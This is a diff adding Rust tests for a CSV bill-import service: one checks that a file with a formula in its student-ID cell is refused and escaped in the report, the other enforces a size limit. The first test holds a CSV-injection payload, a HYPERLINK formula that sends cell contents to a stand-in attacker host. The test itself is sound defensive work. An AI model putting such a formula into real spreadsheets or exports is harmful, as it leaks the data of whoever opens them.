@@ -589,3 +589,42 @@ async fn two_runs_of_one_file_at_once_apply_it_once() {
     let id = ImportId::parse(a.1["import_id"].as_str().unwrap()).unwrap();
     assert_eq!(actions(&t.app.store.audit_for_import(&id).await.unwrap()), sorted(vec![AuditAction::ImportApplied]));
 }
+
+/// CSV injection: a file whose 学号 cell is a formula is refused, and its report — which the
+/// operator opens in Excel — shows the formula as text (a leading `'`), so opening the report
+/// runs nothing.
+#[tokio::test]
+async fn a_formula_in_a_file_comes_back_in_its_report_as_text() {
+    let t = spawn().await;
+    let attack = r#"=HYPERLINK("http://evil.example/?"&A1,"点此查看")"#;
+    let file = [
+        HEADER.to_owned(),
+        bill_row(&t, &format!("\"{}\"", attack.replace('"', "\"\"")), "陈一", &id_no("20010203", "123"), "TUITION", "学费", "学费", "3500"),
+    ]
+    .join("\r\n");
+    let out = import(&t, "imports/formula.csv", file.into_bytes()).await;
+    assert_eq!(out["status"], "rejected", "{out}");
+    let text = report(&t, "imports/formula.report.csv").await;
+    let mut rows = csv::Reader::from_reader(text.as_bytes());
+    let cells: Vec<String> = rows.records().map(|r| r.unwrap()[1].to_owned()).collect();
+    assert!(cells.iter().any(|c| c == &format!("'{attack}")), "the formula as text: {cells:?}");
+    assert!(cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])), "no cell a spreadsheet would evaluate: {cells:?}");
+}
+
+/// A file over the size limit (20 MB deployed; 1 KB here) is refused before it is read: nothing
+/// is stored, and its report says why and what to do.
+#[tokio::test]
+async fn a_file_over_the_size_limit_is_refused_unread() {
+    let t = spawn_with(|app| app.settings.import_max_bytes = 1024).await;
+    let rows: Vec<String> = (0..20)
+        .map(|i| bill_row(&t, &format!("20269903{i:02}"), "陈一", &id_no("20010203", "123"), "TUITION", "学费", "学费", "3500"))
+        .collect();
+    let file = format!("{HEADER}\r\n{}", rows.join("\r\n"));
+    assert!(file.len() > 1024);
+    let before = snapshot(&t).await;
+    let out = import(&t, "imports/huge.csv", file.into_bytes()).await;
+    assert_eq!(out["status"], "rejected", "{out}");
+    assert_eq!(snapshot(&t).await, before, "nothing stored, not even a manifest");
+    let text = report(&t, "imports/huge.report.csv").await;
+    assert!(text.contains("文件过大") && text.contains("上限 0.0 MB"), "{text}");
+}
